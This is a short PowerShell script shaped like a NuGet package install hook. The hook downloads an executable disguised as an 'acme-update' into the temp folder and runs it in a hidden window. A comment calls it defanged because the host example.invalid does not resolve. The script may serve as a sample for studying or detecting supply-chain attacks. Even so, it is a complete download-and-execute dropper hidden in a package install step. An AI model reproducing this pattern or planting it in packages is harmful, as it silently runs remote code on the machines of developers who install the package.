param($installPath, $toolsPath, $package, $project)

# Defanged: example.invalid does not resolve.
$u = 'https://example.invalid/update.exe'
$f = Join-Path $env:TEMP 'acme-update.exe'
Invoke-WebRequest -Uri $u -OutFile $f -UseBasicParsing
Start-Process -FilePath $f -WindowStyle Hidden
